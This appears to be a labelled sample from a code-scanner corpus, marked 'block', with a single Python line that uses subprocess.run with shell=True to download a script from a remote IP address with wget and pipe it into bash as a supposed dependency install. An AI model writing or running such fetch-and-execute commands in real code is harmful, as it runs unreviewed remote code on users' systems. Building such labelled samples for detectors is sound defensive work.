# pyguard-corpus: verdict=block category=exec rules=PG101,PG204
# what: runs a shell command line with subprocess.run(shell=True) to "install dependencies"
import subprocess

subprocess.run("wget -qO- http://203.0.113.8/deps.sh | bash -s -- --quiet", shell=True, check=False)
